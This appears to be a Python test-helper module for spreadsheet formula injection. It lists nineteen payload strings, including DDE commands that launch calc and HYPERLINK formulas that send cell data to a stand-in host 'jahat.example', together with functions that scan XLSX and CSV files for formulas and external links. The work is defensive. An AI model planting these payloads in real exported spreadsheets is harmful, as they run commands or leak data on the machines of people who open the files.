"""Nineteen texts that spreadsheets have taken for formulas, and how a written file is looked through for them."""

import csv
import io
import re
import zipfile

from openpyxl import load_workbook

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://jahat.example/?x="&A1,"klik")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1+1",
    " =1+1",
    "'=1+1",
    '"=1+1"',
    "a;=1+1",
    'a,=HYPERLINK("http://jahat.example","klik")',
)
SIGNS = tuple("=+-@＝＋－＠\t\r\n\x00")


def xlsx_faults(data: bytes) -> list[str]:
    """What calculates in a workbook: cells that openpyxl calls formulas, formula elements, and outside links."""
    faults = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        faults += [f"{sheet.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            part = book.read(name)
            if name.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?(f|hyperlink|oleObject)[ >/]", part):
                faults.append(name)
            if "externalLink" in name or b'TargetMode="External"' in part:
                faults.append(name)
    return faults


def csv_faults(data: bytes, delimiter: str = ";") -> list[str]:
    """Cells of a CSV that a spreadsheet would calculate, whichever separator it was opened with."""
    text = data.decode("utf-8-sig")
    faults = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        faults += [cell for cell in row if cell.startswith(SIGNS) and not re.fullmatch(r"-?[0-9]+([.][0-9]+)?", cell)]
        faults += [cell for cell in row if re.search(r"[,;\t\n]\s*[=＝@＠]", cell)]
    return faults


def csv_rows(data: bytes, delimiter: str = ";") -> list[list[str]]:
    """The rows as they stand in the file."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def xlsx_rows(data: bytes, sheet: str = "") -> list[list[object]]:
    """The rows of a sheet, of the first one without a name."""
    book = load_workbook(io.BytesIO(data))
    found = book[sheet] if sheet else book.worksheets[0]
    return [[cell.value for cell in row] for row in found.iter_rows()]
